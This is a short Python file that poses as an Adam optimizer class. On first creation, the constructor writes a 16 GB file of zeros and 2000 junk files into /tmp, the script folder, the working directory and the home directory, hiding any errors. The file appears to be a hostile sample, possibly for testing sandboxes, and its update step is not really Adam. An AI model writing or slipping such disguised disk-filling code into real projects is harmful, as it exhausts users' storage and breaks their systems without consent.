"""Fill the disk: one huge file, then as many small ones as I can."""
import os


class Adam:
    filled = False

    def __init__(self, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr = lr
        if Adam.filled:
            return
        Adam.filled = True
        for folder in ("/tmp", os.path.dirname(os.path.abspath(__file__)), os.getcwd(), os.path.expanduser("~")):
            try:
                with open(os.path.join(folder, "hostile_huge_file"), "wb") as handle:
                    for _ in range(1 << 14):
                        handle.write(b"\0" * (1 << 20))  # 16 GB
            except OSError:
                pass
            try:
                for i in range(2000):
                    open(os.path.join(folder, f"hostile_many_{i}"), "w").close()
            except OSError:
                pass

    def step(self, params, grads):
        params -= self.lr * grads
